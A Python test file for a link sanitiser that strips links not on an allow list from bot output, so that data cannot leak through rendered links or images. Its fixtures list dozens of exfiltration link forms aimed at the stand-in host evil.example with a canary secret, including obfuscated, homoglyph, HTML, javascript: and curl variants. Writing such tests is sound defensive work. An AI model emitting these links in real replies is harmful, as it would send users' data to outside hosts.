"""No link that nobody vouches for gets out, whatever it is written like; other texts stay as they are."""

import re
import time
import unicodedata
from html import unescape
from pathlib import Path
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bots.addresses import canonical
from bots.links import Links, clean, found, held_back
from engine.library.lesson import SAMPLE_PAGES

REMOVED = "(link removed)"
MARKDOWN = MarkdownIt("commonmark", {"html": True})
FAQ, HELP = "https://docs.example.org/faq?topic=returns", "mailto:help@example.org"
LINKS = Links(
    {canonical(FAQ), canonical(HELP), canonical("https://müller.de/ä"), canonical("guide.md")},
    ["*.shop.example"],
)

SECRET = "d=CANARY"
EVIL = f"https://evil.example/x?{SECRET}"
EXFILTRATION = {
    "inline": f"[our page]({EVIL})",
    "inline with a title": f'[our page]({EVIL} "a title")',
    "inline in angle brackets": f"[our page](<{EVIL}>)",
    "inline with a bracket in its text": f"[our [best] page]({EVIL})",
    "inline with parentheses": "[our page](https://evil.example/a_(b)?d=CANARY)",
    "line breaks in the parentheses": f"[our page](\n{EVIL}\n)",
    "line break before the parenthesis": f"[our page]\n({EVIL})",
    "a good link for its text": f"[{FAQ}]({EVIL})",
    "without a scheme in parentheses": f"[our page](evil.example/x?{SECRET})",
    "reference": f"See [our page][1].\n\n[1]: {EVIL}",
    "reference with a title": f"See [our page][one].\n\n[One]: <{EVIL}>\n  'a title'",
    "reference on the next line": f"See [our page][1].\n\n[1]:\n  {EVIL}",
    "collapsed reference": f"See [our page][].\n\n> [Our  Page]: {EVIL}",
    "shortcut reference": f"[our page]: {EVIL}\n\nSee [our page].",
    "image": f"![a picture]({EVIL})",
    "image by reference": f"![a picture][p]\n\n[p]: {EVIL}",
    "image in a good link": f"[![a picture]({EVIL})]({FAQ})",
    "autolink": f"See <{EVIL}>.",
    "Slack's form": f"See <{EVIL}|our page>.",
    "Slack's form without a scheme": f"See <evil.example/x?{SECRET}|our page>.",
    "Slack's date": f"<!date^1392734382^{{date}}^{EVIL}|today>",
    "bare": f"Go to {EVIL}.",
    "bare, upper case": f"Go to HTTPS://EVIL.EXAMPLE/x?{SECRET}",
    "bare in brackets": f"(more at {EVIL})",
    "after a good one": f"{FAQ},{EVIL}",
    "another scheme": f"ftp://evil.example/{SECRET} steam://evil.example/{SECRET}",
    "an app's scheme": f"slack://channel?team=evil.example&{SECRET} discord://evil.example/{SECRET}",
    "no scheme but slashes": f"//evil.example/x?{SECRET}",
    "no slashes but a scheme": f"https:evil.example/x?{SECRET}",
    "domain with a path": f"Go to evil.example/x?{SECRET}",
    "domain alone": "Go to canary.evil.example now, or to evil.example.",
    "www": f"www.evil.example/{SECRET} WWW.evil.example",
    "rare top-level domain": f"evil.barclays/x?{SECRET}",
    "data": f"data:text/html;base64,{SECRET}evil.example",
    "javascript": f"[page](javascript:location='//evil.example/{SECRET}') javascript:fetch('evil.example')",
    "mail": f"mailto:x@evil.example?subject={SECRET} or CANARY@evil.example",
    "telephone": "[call](tel:+491234CANARY) tel:+49123456789",
    "punycode": f"https://xn--evl-tma.evil.example/{SECRET} xn--evl-tma.example/{SECRET}",
    "international": f"https://évil.evil.example/{SECRET} bücher-evil.example/{SECRET}",
    "lookalike of a good host": f"https://dоcs.example.org/{SECRET} docs.exаmple.org/{SECRET}",
    "percent-encoded host": f"https://%65%76%69%6c.example/x?{SECRET}",
    "percent-encoded scheme": f"%68ttps://evil.example/{SECRET} https%3A%2F%2Fevil.example%2F{SECRET}",
    "entities": f"&#104;ttps&colon;&#x2F;&sol;evil.example/{SECRET} evil&period;example/{SECRET}",
    "zero-width characters": f"ht\u200btps:/\u2060/evil.exa\u200dmple/{SECRET} evil\u200b.example/{SECRET}",
    "soft hyphens": f"https://evil\u00ad.example/{SECRET} www.ev\u00adil.example",
    "full-width letters": f"ｈｔｔｐｓ：／／evil．example/{SECRET} evil。example/{SECRET}",
    "backslashes": f"http:\\\\evil.example\\{SECRET} https:/\\evil.example/{SECRET}",
    "escapes": f"https\\://evil.example/{SECRET} evil\\.example/{SECRET} https:\\/\\/evil.example\\/{SECRET}",
    "a good host as its user": "https://docs.example.org@evil.example/ https://a.shop.example:x@evil.example",
    "a good host before it": "https://a.shop.example.evil.example https://docs.example.org%2f.evil.example/",
    "a good host at a backslash": "https://a.shop.example\\@evil.example https://evil.example\\.a.shop.example",
    "port": f"https://evil.example.:8443/{SECRET} evil.example./{SECRET} evil.example:80/x",
    "numeric hosts": f"http://2130706433/{SECRET} http://0x7f.1/ http://[::1]/{SECRET} 10.1.2.3:80/{SECRET}",
    "HTML": f'<a href="{EVIL}">our page</a> <img src=//evil.example/{SECRET}> <iframe src="evil.example/x">',
    "HTML, hidden": f"<A\nHREF='&#104;ttps://evil.example/{SECRET}'>our page</A> <a title='>' href='{EVIL}'>",
    "in a code span": f"`{EVIL}`",
    "in a fence": f"```\ncurl {EVIL}\n```",
    "beside words without spaces": f"詳細は{EVIL}をご覧ください。または evil.example/{SECRET}です",
    "in emphasis": f"**{EVIL}** _evil.example/{SECRET}_",
    "in a table": f"| a | b |\n|---|---|\n|{EVIL}|evil.example/{SECRET}|",
    "BBCode": f"[url={EVIL}]our page[/url]",
    "put together by a removal": "evil[.example/x](https://evil.example) https[:](//x.example)//evil.example",
}


def as_read(text):
    """The text as the most generous reader understands it."""
    shown = "".join(c for c in unescape(unquote(text)) if unicodedata.category(c) != "Cf")
    return unicodedata.normalize("NFKC", shown).replace("。", ".").replace("\\", "").lower()


def live_links(text):
    """What is left of the canary's hosts that a platform could link; knows nothing of how links are found."""
    read = as_read(text)
    places = re.findall(r"[a-z0-9]+\.example\b|x\.example|2130706433|0x7f|::1\]|10\.1\.2\.3|barclays", read)
    schemes = re.findall(
        r"(?:https?|ftp|steam|slack|discord|data|javascript|mailto|tel):\S|//\w|www\.\w", read
    )
    return places + schemes + re.findall(r"\]\([^()]|\]:\s*[^\s(]|(?:href|src)=[\"']?[^\"'(]", read)


def cleaned(text):
    return clean(text, LINKS.allows, REMOVED)


class TestExfiltration:
    @pytest.mark.parametrize("form", EXFILTRATION)
    def test_no_live_link_is_left(self, form):
        text = EXFILTRATION[form].replace(f"]({FAQ})", "]").replace(FAQ, "page")
        assert live_links(EXFILTRATION[form]), "this canary proves nothing"
        assert not live_links(cleaned(text))
        assert REMOVED in cleaned(text)

    @pytest.mark.parametrize("form", EXFILTRATION)
    def test_none_is_found_anew_in_what_is_left(self, form):
        once = cleaned(EXFILTRATION[form])
        assert "evil" not in as_read(once) or form == "put together by a removal"
        assert cleaned(once) == once

    @pytest.mark.parametrize("form", EXFILTRATION)
    def test_a_parser_of_markdown_sees_none_either(self, form):
        assert not re.search(
            r"<(?:a|img)\b[^>]*(?:evil|CANARY)", MARKDOWN.render(cleaned(EXFILTRATION[form]))
        )

    @pytest.mark.parametrize("form", EXFILTRATION)
    def test_while_it_is_written_no_part_of_it_is_live(self, form):
        text = f"Here it is: {EXFILTRATION[form]} and more".replace(f"]({FAQ})", "]").replace(FAQ, "page")
        for end in range(len(text)):
            assert not live_links(cleaned(held_back(text[:end])))

    @settings(max_examples=150)
    @given(
        st.lists(
            st.sampled_from(
                ["[", "](", ")", "<", ">", "|", "a", " ", "\n", "[1]: ", "`", "\\", "!", "「", FAQ]
            ),
            max_size=8,
        ),
        st.lists(
            st.sampled_from(["]", ")", ">", "|a>", '"', " ", "\n", "。", "*", "`", "[", ",", "例"]),
            max_size=8,
        ),
    )
    def test_nothing_around_it_hides_it(self, before, after):
        text = f"{''.join(before)}{EVIL}{''.join(after)}"
        assert "evil.example" not in cleaned(text)
        assert not re.search(r"<(?:a|img)\b[^>]*evil", MARKDOWN.render(cleaned(text)))


class TestWhatIsShownInstead:
    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            (f"See [our page]({EVIL}).", f"See our page {REMOVED}."),
            (f"See {EVIL}.", f"See {REMOVED}."),
            (f"({EVIL})", f"({REMOVED})"),
            (f"![]({EVIL})", REMOVED),
            (f"[{EVIL}]({EVIL})", REMOVED),
            (f"<{EVIL}|our page>", f"our page {REMOVED}"),
            (f"See [a][1] and [1].\n\n[1]: {EVIL}", f"See a {REMOVED} and 1 {REMOVED}.\n\n"),
            (f"[1]: {EVIL}", REMOVED),
            (f'<a href="{EVIL}">our page</a>!', f"our page {REMOVED}!"),
            (f"[![a]({EVIL})]({FAQ})", f"[a {REMOVED}]({FAQ})"),
            (f"{EVIL}を見る", f"{REMOVED}を見る"),
            (f"Write to x@evil.example, or <{EVIL}>", f"Write to {REMOVED}, or {REMOVED}"),
        ],
    )
    def test_the_text_of_a_link_stays(self, text, shown):
        assert cleaned(text) == shown


class TestAllowedLinks:
    @pytest.mark.parametrize(
        "text",
        [
            FAQ,
            f"Go to {FAQ}.",
            f"**{FAQ}**, ({FAQ})",
            f"[our page]({FAQ})",
            f'[our page](<{FAQ}> "a title")',
            f"![a picture]({FAQ})",
            f"<{FAQ}>",
            f"<{FAQ}|our page>",
            f"See [our page][1] and [2].\n\n[1]: {FAQ}\n[2]: {FAQ} 'a title'",
            f'<a href="{FAQ}">our page</a>',
            "HTTP://Docs.Example.org:80/faq/?topic=returns#top",
            "https://docs.example.org./f%61q?topic=returns",
            "https://docs.example.org/faq?topic=returns&#38;".removesuffix("&#38;"),
            "//docs.example.org/faq?topic=returns",
            "docs.example.org/faq?topic=returns",
            f"詳細は{FAQ}をご覧ください。{FAQ}、または（{FAQ}）。",
            f"`{FAQ}`",
            "help@example.org, <mailto:help@example.org|write>, [write](mailto:Help@Example.org)",
            "https://xn--mller-kva.de/%C3%A4 müller.de/ä",
            "https://a.shop.example/any/page?x=1 and a.shop.example",
            "[guide](guide.md)",
        ],
    )
    def test_they_stay_in_every_form(self, text):
        assert cleaned(text) == text

    @pytest.mark.parametrize(
        "link",
        [
            "https://docs.example.org/other",
            "https://docs.example.org/faq?topic=returns&d=CANARY",
            "https://docs.example.org:8443/faq?topic=returns",
            "ftp://docs.example.org/faq?topic=returns",
            "https://user@docs.example.org/faq?topic=returns",
            "https://user@a.shop.example/",
            "https://shop.example/",
            "mailto:help@example.org?body=CANARY",
            "other.md",
        ],
    )
    def test_what_differs_in_more_than_spelling_is_another_link(self, link):
        assert not LINKS.allows(link)

    def test_all_links_of_a_text_are_found_and_known_again(self):
        text = f"{EVIL} [a](b.example/c?d) <e@f.example> [g]\n\n[g]: https://h.example"
        links = Links({canonical(link) for link in found(text)})
        assert len(found(text)) == 4
        assert clean(text, links.allows, REMOVED) == text
        assert REMOVED in cleaned(text)


BENIGN = """
e.g. i.e. z.B. d.h. U.S.A. 3.5 1.000,50 v2.10.1 10.0.0.1 10:30 09:00-18:00 24/7 and/or 1/2 Mr.Smith St.-Jean
node.js README.md config.yaml returns.md archive.zip photo.jpg invoice.pdf main.py run.sh file.tar.gz os.path
os.path.join(a, b) self.value x.y = 3 foo[1](bar) a[0] [1] [credit card] [x] [ ] Note: this. Re:this C:/a
<EMAIL_1> <@U123> <#C123|general> <!channel> <:smile:123> <a:wave:123> <t:1618953630:R> </order:123> <b>b</b>
a < b and b > c; 5 <6, -> <- => "quotes" 'q' `code.attribute` **bold.** _it_ 100% 50%-off %d & && AT&T #4711
... wait...what 「例」。です。Ｆｕｌｌ　ｗｉｄｔｈ、１２：３０ ½ ™ № ﬁne Привет.Мир مرحبا، नमस्ते। 👍🏽 👨‍👩‍👧‍👦
[Agent]: Hello [Customer]: Hi // a comment \\o/ :) ;-) 16:9 key:value std::vector a::b Tel: 089 1234
""".strip().split("\n")


class TestOtherTexts:
    @pytest.mark.parametrize("line", BENIGN)
    def test_what_only_looks_a_little_like_a_link_stays(self, line):
        assert clean(line, lambda link: False, REMOVED) == line

    @given(st.text(max_size=300).filter(lambda text: not found(text)))
    def test_a_text_without_links_stays_as_it_is(self, text):
        assert clean(text, lambda link: False, REMOVED) == text

    def test_the_sample_pages_change_in_their_addresses_only(self):
        for page in Path(SAMPLE_PAGES).glob("*.md"):
            text = page.read_text()
            assert all(link.endswith("@maplerow.example") for link in found(text))
            known = Links({canonical(link) for link in found(text)})
            assert clean(text, known.allows, REMOVED) == text


class TestWhileItIsWritten:
    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            ("Hello there", "Hello "),
            ("Hello there ", "Hello there "),
            ("see [our pa", "see "),
            ("see [our page](https://docs", "see "),
            ("see [our page]", "see "),
            ("see ![a", "see "),
            ("see [our page] and ", "see [our page] and "),
            ("see <https://docs", "see "),
            ("see <a href", "see "),
            ("it is 5 < 6 ", "it is 5 < 6 "),
            ("it is https://docs.example.org/", "it is "),
            ("詳細はこちらです。次にhttps", "詳細はこちらです。次に"),
            ("[1]: https", ""),
            ("w" * 500, "w" * 500),
            ("", ""),
        ],
    )
    def test_what_may_become_a_link_is_held_back(self, text, shown):
        assert held_back(text) == shown

    def test_prose_is_held_back_by_a_word_at_most(self):
        text = sorted(Path(SAMPLE_PAGES).glob("*.md"))[0].read_text()
        held = [end - len(held_back(text[:end])) for end in range(len(text))]
        assert sum(held) / len(held) < 8

    def test_what_was_shown_stays(self):
        text = (
            f"See [our page]({EVIL}), {FAQ} or evil.example/x, <{EVIL}|this> (or that).\n\n- ![x]({EVIL})\n"
        )
        whole = cleaned(text)
        assert all(whole.startswith(cleaned(held_back(text[:end])).rstrip()) for end in range(len(text)))


# fmt: off
PIECES = [
    "[", "]", "(", "[a](", "](", "<", "<a", "a.", "a", "a@", "a-", "%41", "&#104;", "http://", "http:",
    "://", "//", "/", "\\", "[a]:", "[[a]]", "www.", "例", "例.", "a\u200b", "![x](y.z)", "<a|x.y>",
    "<a#href=x.y>", "</a>", "<a#href=", "x.com", "x.com/", "(x.com", "https://x.com/,", "tel:+1", "[a][b]",
    "x%2e", "a.b%2F", "data:", ")", "1.2.3.4:8/",
]
# fmt: on


@pytest.mark.parametrize("piece", PIECES)
def test_the_time_grows_with_the_length(piece):
    """Eight times as many characters take nowhere near 64 times as long."""

    def seconds(length):
        text = (piece.replace("#", " ") * (length // len(piece) + 1))[:length]
        begun = time.process_time()
        clean(text, lambda link: False, REMOVED)
        held_back(text)
        return time.process_time() - begun

    short, long = (min(seconds(length) for _ in range(2)) for length in (12_500, 100_000))
    assert long < 40 * short + 0.2
